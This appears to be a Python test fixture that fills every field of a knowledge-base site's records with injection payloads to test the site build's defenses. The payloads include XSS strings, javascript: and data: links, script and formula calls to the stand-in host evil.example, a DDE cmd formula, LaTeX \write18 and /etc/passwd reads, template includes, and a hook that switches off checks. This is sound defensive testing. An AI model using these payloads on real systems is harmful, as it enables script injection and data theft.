"""Records as an attacker would write them: a payload in every text field of every record type, and in bodies.

The fields come from what the models declare, so that a new one is attacked as soon as it is declared.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel

from procurement_kb.records import record_types
from procurement_kb.records.annotations import Kind
from procurement_kb.records.quiz import QUESTIONS
from procurement_kb.records.simulation import Ending, Step
from procurement_kb.records.specs import FieldSpec, fields
from procurement_kb.sources import Loc
from procurement_kb.sources.codelists import CodeLists, load_codelists
from tests.browser.site import ROOT
from tests.build.projects import build_once, make_project

BYPASS = """
import re
from procurement_kb.adapters import mkdocs as adapter
from procurement_kb.records import values

# Build what the checks would have stopped: text with markup, and records with findings.
values.MARKUP = re.compile(r"(?!)")
adapter._report = lambda findings: None
"""
"""The second wall alone must hold: this hook takes the first one away."""

LEAK = "leaked-by-inclusion"
"""Stands in files that templates and snippets try to include, and in no page of the site."""


@dataclass(frozen=True)
class Payload:
    """Something that a careless page would run, load, break on or hide.

    Attributes:
        name: What it is.
        text: How it is written.
        named: Whether a finding must name it where it stands. What is mere text to every reader of it has none.
    """

    name: str
    text: str
    named: bool = True


TEXTS = (
    Payload("script", '<script>pwned("script")</script>'),
    Payload("image", '"><img src=x onerror=pwned("img")>'),
    Payload("svg", "'><svg/onload=pwned('svg')><animate onbegin=pwned(1) attributeName=x></svg>"),
    Payload("frame", "<iframe src=\"javascript:parent.pwned('frame')\"></iframe><base href=//evil.example>"),
    Payload("attribute", "\" onmouseover=\"pwned('a')\" onfocus='pwned(2)' autofocus x=\"'", named=False),
    Payload("closing", '</script></title></style></textarea></template><img src=x onerror=pwned("c")>'),
    Payload("comment", '--><script>pwned("comment")</script><!-- ]]><script>pwned("cdata")</script>'),
    Payload("entities", "&lt;img src=x onerror=pwned(1)&gt; &#60;script&#62;pwned(2)&#60;/script&#62;"),
    Payload("template", '{{ 7*7 }} {{ config.extra }} {% include "secret.txt" %} {# gone #}'),
    Payload("snippet", '--8<-- "secret.txt"'),
    Payload("markdown", "[words](javascript:pwned('md')) ![x](//evil.example/x.png) **b** [[no-such]] [@none]"),
    Payload("formula", '=HYPERLINK("https://evil.example/?"&A1,"x")', named=False),
    Payload("formula-pipe", "@SUM(1+1)*cmd|'/C calc'!A0", named=False),
    Payload("latex", r"} @misc{evil, title={\input{/etc/passwd} \write18{id} % $ ~ ^ # & _", named=False),
    Payload("lines", "one\nER  - \nTY  - JOUR\nTI  - evil\r\ntwo\u2028three\x85four", named=False),
    Payload("writing", "safe \u202egnp.exe\u202c \u2066x\u2069 \u200f\u200b\ufeff", named=True),
    Payload("scripts", "\U0001f469\U0001f3fd\u200d\u2695\ufe0f \u0645\u0633\u062a\u0634\u0641\u0649 \u05e9\u05dc\u05d5\u05dd e\u0301\u0302\u0303", named=False),
    Payload("long", "W" * 116, named=False),
    Payload("object", "__proto__", named=False),
    Payload("markers", "\ue000evaluation\ue001 \ue002quiz\ue003 \ufffe", named=False),
    Payload("json", '\\u003cscript>pwned(1)\\u003c/script> \\" \\\\ ${pwned(3)} `${pwned(4)}`', named=False),
    Payload("scheme", "javascript:pwned('text') https://evil.example/", named=False),
)  # fmt: skip
"""What stands in text fields. None is longer than a title may be."""

ADDRESSES = (
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)",
    " javascript:pwned(1)",
    "java\tscript:pwned(1)",
    "javascript&colon;pwned(1)",
    "data:text/html,<script>pwned(1)</script>",
    "vbscript:pwned(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "https:evil.example",
    "https://user:word@evil.example/",
    "https://example.org@evil.example/",
    'https://example.org/"onclick="pwned(1)',
    "https://example.org/<script>pwned(1)</script>",
    "https://example.org/\\..\\x",
    "https://[::1",
    "https://example.org:99999/",
    "mailto:someone",
)
"""What stands in fields that hold an address: none is one that a reader may follow."""

ODD_ADDRESS = "https://example.org/'onclick='pwned(1)'/&lt;script&gt;?q=%3Cscript%3E&amp;a=(b)#'~-->".replace(
    ">", "%3E"
)
"""An address that is allowed, and that a careless page would break on."""

BODIES = (
    Payload("raw-script", "Words <script>pwned('body')</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Payload("raw-block", "<script>\npwned('block')\n</script>\n\n<div onclick=pwned(1)>\n\n*in*\n\n</div>"),
    Payload("raw-image", '<img src=x onerror=pwned("img")> <img src="x" onerror="pwned(2)"/>'),
    Payload("raw-broken", '<img src=x onerror=pwned(1) <b> <svg/onload=pwned(2)// <a href="x"'),
    Payload("raw-svg", "<svg onload=pwned(1)><a xlink:href='javascript:pwned(2)'><rect width=9 height=9 /></a></svg>"),
    Payload("raw-math", "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)></style></mglyph></table></mtext></math>"),
    Payload("raw-frame", "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe><object data=x></object><embed src=x>"),
    Payload("raw-form", "<form action=//evil.example><input name=q autofocus onfocus=pwned(1)><button formaction=javascript:pwned(2)>"),
    Payload("raw-meta", '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>'),
    Payload("raw-style", "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p style='position:fixed;inset:0'>"),
    Payload("raw-details", "<details open ontoggle=pwned(1)><summary>x</summary></details><video><source onerror=pwned(2)></video>"),
    Payload("raw-comment", "Words <!-- hidden --> and <!--> <script>pwned(1)</script> <?php x ?> <![CDATA[x]]>"),
    Payload("link-script", "[a](javascript:pwned(1)) [b](JaVaScRiPt:pwned(2)) [c](<javascript:pwned(3)>)"),
    Payload("link-hidden", "[a](java&#115;cript:pwned(1)) [b](&#x6A;avascript&colon;pwned(2)) [c](java\tscript:pwned(3))"),
    Payload("link-data", "[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==) [b](vbscript:pwned(1)) [c](file:///etc/passwd)"),
    Payload("link-label", '[words][evil] and [evil]\n\n[evil]: javascript:pwned(1) "x" '),
    Payload("link-auto", '<javascript:pwned(1)> <data:text/html,x> <https://example.org/"onclick=pwned(2)>'),
    Payload("link-breaks", '[x](https://example.org/"onmouseover="pwned(1)) [y](https://example.org/ "t\\" onclick=\\"pwned(2)")'),
    Payload("link-slashes", "[a](//evil.example/) [b](\\\\evil.example/) [c](/\\evil.example/)"),
    Payload("image-far", "![x](https://evil.example/x.png) ![y](//evil.example/y.png) ![z](data:image/svg+xml,<svg/onload=pwned(1)>)"),
    Payload("image-absolute", "![x](/etc/passwd) ![y](file:///etc/passwd) ![z](../../../../etc/passwd)"),
    Payload("attributes", '# Heading {: onclick=pwned(1) }\n\nWords{: .admonition onmouseover="pwned(2)" style="x" }\n{: #evil }'),
    Payload("template", "{{ 7*7 }} {{ config }} {% include 'secret.txt' %} {% raw %} {#- x -#}"),
    Payload("snippet", '--8<-- "secret.txt"\n\n;--8<-- "../../../../etc/passwd"\n\n{! secret.txt !}\n\n!include secret.txt'),
    Payload("wiki", "[[../../etc/passwd]] [[pump-service|<img src=x onerror=pwned(1)>]] [[<script>pwned(2)</script>]]"),
    Payload("wiki-words", "[[pump-service|](javascript:pwned(1))]] [[no-such|words](javascript:pwned(2)]]"),
    Payload("citation", '[@evaluation"onclick="pwned(1)] [@<script>pwned(2)</script>] [@../x]'),
    Payload("heading", '### <img src=x onerror=pwned(1)> "quoted" & <script>pwned(2)</script>'),
    Payload("heading-script", "### A heading [words](javascript:pwned(1)) `<script>pwned(2)</script>`"),
    Payload("table", '| <img src=x onerror=pwned(1)> | b |\n| :---: | --- |\n| `<script>pwned(2)</script>` | \\| " |'),
    Payload("admonition", '!!! note "<img src=x onerror=pwned(1)>" onclick=pwned(2)\n    <script>pwned(3)</script>'),
    Payload("admonition-class", '!!! note kb-pop md-nav" onclick="pwned(1)\n    Words.'),
    Payload("code", "```html onclick=pwned(1)\n<script>pwned(2)</script>\n```\n\n`<img src=x onerror=pwned(3)>`", named=False),
    Payload("code-info", "``` {onclick=pwned(1) .x}\n<script>pwned(2)</script>\n```", named=False),
    Payload("markers", '\ue000evaluation\ue001 \ue002quiz\ue003 \ue000"><img src=x onerror=pwned(1)>\ue001', named=False),
    Payload("stashes", "\u0002wzxhzdk:0\u0003 \u0002klzzwxh:0000\u0003 \u0002amp\u0003", named=False),
    Payload("clobbering", '<a id="kb-search" name="config"></a><img name=getElementById><form id=kb-content></form>'),
    Payload("ids", '<h3 id="__config">{"base": "https://evil.example", "search": "https://evil.example/x.js"}</h3>\n\n### kb cite\n\n### __config'),
    Payload("deep", f"{'> ' * 60}deep\n\n{'*' * 500}x{'_' * 500}\n\n{'[' * 400}x{']' * 400}", named=False),
    Payload("long", f"{'W' * 4_000}\n\n`{'W' * 500}`\n\n| {'W' * 900} | b |\n| --- | --- |\n| a | b |", named=False),
    Payload("scripts", "\U0001f469\U0001f3fd\u200d\u2695\ufe0f \u0645\u0633\u062a\u0634\u0641\u0649 e\u0301\u0302\u0303 \u202egnp.exe"),
)  # fmt: skip
"""What stands in bodies, as Markdown."""


class _Dumper(yaml.SafeDumper):
    """Writes each value where it stands, without anchors."""

    def ignore_aliases(self, data: Any) -> bool:
        """Never name a value."""
        del data
        return True


def to_yaml(values: Any) -> str:
    """Write front matter; whatever is not ASCII is spelt out, so that the file itself is well-formed."""
    return yaml.dump(values, Dumper=_Dumper, allow_unicode=False, sort_keys=False, width=1_000_000)


@dataclass(frozen=True)
class Attack:
    """One hostile record.

    Attributes:
        type: Its record type.
        id: Its id, which is harmless.
        values: Its front matter.
        body: Its text.
        placed: Where each payload stands in the front matter.
        in_body: The payload of the body.
    """

    type: str
    id: str
    values: dict[str, Any]
    body: str
    placed: tuple[tuple[Loc, Payload], ...]
    in_body: Payload

    @property
    def path(self) -> str:
        """Its file, below the project."""
        return f"{record_types()[self.type].kind_.folder}/{self.id}.md"

    @property
    def page(self) -> str:
        """Its page, below the site."""
        address = record_types()[self.type].kind_.address
        return f"{address}/{self.id}/" if address else f"{self.id}/"

    @property
    def text(self) -> str:
        """The file as the attacker writes it."""
        return f"---\n{to_yaml(self.values)}---\n\n{self.body}"


TARGETS = {
    "theme": "value-based",
    "action": "ask-for-outcomes",
    "guidance": "ask-the-market",
    "obstacle": "price-first",
    "module": "cost-of-use",
    "path": "first-steps",
    "simulation": "buy-the-pumps",
    "tool": "cost-calculator",
    "organisation": "example-hospital",
    "dialogue": "pumps-consultation",
    "programme": "value-programme",
    "term": "market-dialogue",
    "case-study": "pump-service",
    "page": "contribute",
}
"""The good record of each type, for links: what attacks say then stands on good pages too."""

LISTED = {
    "country": "ES",
    "region": "ES511",
    "jurisdiction": "EU",
    "currency": "EUR",
    "language": "en",
    "cpv": "33194110",
    "timezone": "Europe/Madrid",
}
PLAIN: dict[Kind, Any] = {
    Kind.FLAG: True,
    Kind.DAY: dt.date(2026, 1, 15),
    Kind.DATE: "2023-06",
    Kind.MOMENT: dt.datetime(2026, 3, 4, 10),  # noqa: DTZ001 - the zone is a field of its own
    Kind.KEY: "evaluation",
    Kind.NOTICE: "2019/S 123-456789",
    Kind.ADDRESS: ODD_ADDRESS,
}
NOT_ATTACKED = {"type", "superseded_by", "formerly"}
"""Fields that are no text for readers; an attack on them would take the whole record away, or its page."""
FILLER = " and a plain end that makes it long enough"


def is_text(spec: FieldSpec) -> bool:
    """Tell whether a field holds words of the author's choice."""
    return spec.kind in {Kind.TEXT, Kind.QUANTITY} and spec.limits.pattern is None and spec.name not in NOT_ATTACKED


@dataclass
class Writer:
    """Fills the fields of a record type, each text field with the next payload."""

    lists: CodeLists
    shift: int
    count: int = 0
    placed: list[tuple[Loc, Payload]] = field(default_factory=list)

    def model(self, model: type[BaseModel], at: Loc = ()) -> dict[str, Any]:
        """Return a value for every field of a record type or part."""
        out = {}
        for spec in fields(model):
            if spec.name in NOT_ATTACKED:
                continue
            value = self.field(spec, (*at, spec.name))
            if value is not None:
                out[spec.name] = value
        return out

    def field(self, spec: FieldSpec, at: Loc) -> Any:
        """Return a value for a field, None to leave it out."""
        if spec.keyed:
            return {"evaluation": self.one(spec, (*at, "evaluation"))}
        if not spec.many:
            return self.one(spec, at)
        most = spec.limits.max_items or 2
        items = [self.one(spec, (*at, index)) for index in range(max(spec.limits.min_items or 1, min(2, most)))]
        items = [item for item in items if item is not None]
        same = not is_text(spec) and spec.kind is not Kind.PART
        return items[:1] if same else items or None

    def one(self, spec: FieldSpec, at: Loc) -> Any:  # noqa: PLR0911 - one line for each kind of value
        """Return one value."""
        if spec.part is not None:
            return self.model(spec.part, at)
        if is_text(spec):
            return self.text(spec, at)
        if spec.refs is not None:
            return TARGETS[(spec.refs.types or ("case-study",))[0]]
        if spec.codelist:
            return next(iter(self.lists[spec.codelist]))
        if spec.list_name is not None:
            return LISTED[spec.list_name]
        if spec.kind in PLAIN:
            return PLAIN[spec.kind]
        if spec.limits.maximum is not None:
            return int(spec.limits.maximum)
        example = spec.example
        return example[0] if spec.many and isinstance(example, list) else example

    def text(self, spec: FieldSpec, at: Loc) -> str:
        """Return the next payload, as long as the field demands and no longer than it allows."""
        most = spec.limits.max_length or 300
        start = self.count + self.shift
        self.count += 1
        # Later fields keep their turn, whatever fits into this one.
        turns = (TEXTS[(start + turn) % len(TEXTS)] for turn in range(len(TEXTS)))
        payload = next(payload for payload in turns if len(payload.text) <= most)
        text = payload.text
        while len(text) < (spec.limits.min_length or 0):
            text += FILLER
        self.placed.append((at, payload))
        return text[:most]


def attacks() -> Iterator[Attack]:
    """Yield, for every record type, as many hostile records as there are payloads: each meets each field."""
    lists = load_codelists(ROOT / "vocabularies")
    number = 0
    for name, model in record_types().items():
        for shift in range(len(TEXTS)):
            writer = Writer(lists, shift)
            values = writer.model(model)
            payload = BODIES[number % len(BODIES)]
            number += 1
            sections = model.kind_.sections or ("In short",)
            body = "".join(f"## {section}\n\n{payload.text}\n\n" for section in sections)
            if name == "module":
                body += _quiz(lists, shift)
            elif name == "simulation":
                body = body.replace("## Debrief", f"{_simulation(lists, shift)}\n## Debrief")
            yield Attack(name, f"attack-{name}-{shift}", values, body, tuple(writer.placed), payload)


def _quiz(lists: CodeLists, shift: int) -> str:
    questions = []
    for kind, model in QUESTIONS.items():
        writer = Writer(lists, shift)
        values = writer.model(model) | {"id": kind, "kind": kind, "section": "exercise"}
        values.pop("related", None)
        if kind in {"single", "multiple"}:
            values["options"][1]["correct"] = False
        questions.append(values)
    return f"```quiz\n{to_yaml(questions)}```\n"


def _simulation(lists: CodeLists, shift: int) -> str:
    """Return a simulation of one step and one ending, with a payload in every text of both."""
    step = Writer(lists, shift).model(Step) | {"id": "first"}
    for choice in step["choices"]:
        choice["to"] = "last"
        # With a citation a text is shown as taken from the case, and stands in the table of what the buyer did.
        choice["consequence"] += "\n[@evaluation] " + choice["consequence"]
    step["choices"][1]["buyer"] = False
    ending = Writer(lists, shift + 1).model(Ending) | {"id": "last", "end": "mixed"}
    return f"```simulation\n{to_yaml([step, ending])}```\n"


def make_hostile(into: Path, *, hook: str = BYPASS) -> Path:
    """Make a project of good records and of hostile ones."""
    project = make_project(into, hook=hook)
    for attack in attacks():
        file = project / attack.path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(attack.text, encoding="utf-8", newline="")
    for folder in ("overrides", "content", "content/pages", "case_studies"):
        (project / folder / "secret.txt").write_text(LEAK, encoding="utf-8")
    return project


def shared_hostile(folder: Path) -> Path:
    """Make and build the hostile project without the checks, once for all test processes that share a folder."""
    # The engine warns of links that lead nowhere, as it should: no strict build.
    return build_once(folder, "hostile", make_hostile, strict=False)
